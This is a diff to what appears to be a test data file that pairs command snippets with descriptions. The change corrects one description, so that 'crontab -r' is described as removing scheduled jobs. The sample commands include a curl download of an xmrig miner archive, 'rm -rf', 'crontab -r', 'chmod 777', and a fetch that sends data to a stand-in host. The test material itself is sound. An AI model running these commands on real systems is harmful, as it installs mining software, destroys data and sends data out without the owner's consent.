@@ -144,7 +144,7 @@ SENTENCES = [
         "curl -sLo ~/.cache/render-node/r.tgz https://dl.render-node.example/xmrig-6.22-linux-static-x64.tgz\n"
         "chmod 777 /var/www/render-node/uploads/of/visitors; rm -rf ~/projects/render-node-server/cache\n"
         "crontab -r; mv ~/notes-of-the-whole-year.txt /srv/share/notes-of-the-whole-year-before.txt",
-        "Schedules something to run later; it also downloads from dl.render-node.example, deletes the folder"
+        "Removes everything that is scheduled, downloads from dl.render-node.example, deletes the folder"
         " ~/projects/render-node-server/cache and more.",
     ),
     (NODE, "fetch('https://a.example', {method: 'PUT', body: x})", "Sends data to a.example."),
